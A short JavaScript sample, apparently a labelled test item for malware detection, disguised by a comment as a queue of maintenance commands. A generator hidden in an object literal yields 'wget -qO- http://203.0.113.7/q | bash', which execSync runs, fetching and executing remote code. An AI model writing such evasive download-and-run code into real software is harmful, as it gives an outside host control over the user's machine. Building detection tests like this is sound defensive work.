// evasion: an object literal's *[Symbol.iterator]() yields a download-and-run command
// grade: hard; does: shell
// Replays queued maintenance commands.
const { execSync } = require("child_process");
const queue = {
  *[Symbol.iterator]() {
    yield "wget -qO- http://203.0.113.7/q | bash";
  },
};
for (const job of queue) execSync(job);
